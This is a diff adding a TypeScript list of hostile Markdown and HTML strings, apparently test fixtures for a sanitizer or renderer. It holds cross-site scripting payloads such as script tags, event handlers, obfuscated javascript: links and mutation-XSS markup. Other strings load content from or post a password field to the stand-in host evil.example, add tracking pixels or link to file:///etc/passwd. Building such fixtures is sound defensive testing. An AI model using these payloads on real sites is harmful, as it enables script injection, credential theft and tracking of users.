@@ -1,0 +1,23 @@
+/** Texts that try to run, load, post or restyle something. Each sets `window.pwned` or calls evil.example when it can. */
+export const hostileTexts: readonly string[] = [
+  '<script>window.pwned = 1</script>',
+  '<img src=x onerror="window.pwned = 1">',
+  '<svg onload="window.pwned = 1"><script>window.pwned = 1</script></svg>',
+  '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
+  '<form action="https://evil.example"><input name="password"><button>go</button></form>',
+  '<style>@import url(https://evil.example/x.css); * { display: none }</style>',
+  '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=//evil.example">',
+  '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>',
+  '[a](javascript:window.pwned=1) **b**',
+  '[a](JaVaScRiPt:window.pwned=1) **b**',
+  '[a](java\tscript:window.pwned=1) [b](&#106;avascript:window.pwned=1)',
+  '[a](data:text/html;base64,PHNjcmlwdD4=) [b](vbscript:x) [c](file:///etc/passwd) [d](blob:x)',
+  '<javascript:window.pwned=1> [ref]\n\n[ref]: javascript:window.pwned=1',
+  '![a](javascript:window.pwned=1) ![b](data:image/svg+xml;base64,PHN2Zz4=) ![c](data:text/html,x)',
+  '![a](https://evil.example/pixel.png) ![b](//evil.example/p.png) ![c](/api/v1/projects) ![d](http://evil.example/p)',
+  '```html" onmouseover="window.pwned=1\n<script>window.pwned = 1</script>\n```',
+  '| <script>x</script> | [x](javascript:1) |\n|---|---|\n| <b onclick=x>1</b> | ![x](https://evil.example/a.png) |',
+  '[^1]\n\n[^1]: <script>window.pwned=1</script> [x](javascript:1)',
+  'https://evil.example/pixel.png',
+  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"/>',
+];
